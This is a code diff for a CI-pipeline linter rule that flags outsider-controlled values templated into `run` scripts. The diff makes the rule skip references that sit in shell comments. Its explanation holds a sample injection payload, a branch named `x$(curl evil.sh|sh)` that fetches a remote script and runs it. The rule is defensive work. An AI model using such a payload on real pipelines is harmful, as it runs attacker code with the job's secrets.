@@ -1,4 +1,6 @@
+import { references } from '../../3-expand/template/parse.ts'
 import { unsafe } from '../edit.ts'
+import { isComment } from '../facts/comments.ts'
 import type { Script } from '../facts/scripts.ts'
 import { type Taint, taintsIn } from '../facts/taint.ts'
 import type { Finding, Rule } from '../rule.ts'
@@ -11,7 +13,7 @@ const rule: Rule = {
   what:
     'The script of a `run` step contains, through a template, a value that an outsider chooses: the name of a branch or a ' +
     'tag, the text of a commit, a pull request or a comment, the body of a webhook. It is followed through parameters of ' +
-    'commands and jobs. Texts that whoever starts the pipeline chooses (string pipeline parameters) are an `info`.',
+    'commands and jobs. Texts that whoever starts the pipeline chooses (string pipeline parameters) are an `info`. Comments in scripts are left alone.',
   why:
     'The value becomes part of the script before the shell reads it: a branch called `x$(curl evil.sh|sh)` runs that, with ' +
     'the secrets of the job. Quotes do not help.',
@@ -43,12 +45,23 @@ workflows:
 `,
   check: (facts, report) => {
     for (const script of facts.scripts()) {
-      for (const taint of taintsIn(script.scalar, script.step.owner, facts)) report(findingOf(script, taint))
+      for (const taint of taintsIn(script.scalar, script.step.owner, facts))
+        if (!isHarmless(script, taint)) report(findingOf(script, taint))
     }
   },
 }
 
 export default rule
+
+/** A comment ends with its line: what cannot hold a line break stays in it. */
+function isHarmless(script: Script, { source, mention }: Taint): boolean {
+  if (/(body|commit_message)$|^pipeline\.parameters\./.test(source)) return false
+  const { scalar, spanOf } = script
+  const place = references(scalar.text).find(
+    ({ start, end }) => spanOf({ pos: start, end }).start === mention.span.start,
+  )
+  return place !== undefined && isComment(script, place.start)
+}
 
 function findingOf(script: Script, taint: Taint): Finding {
   const { source, chooser, mention, path } = taint
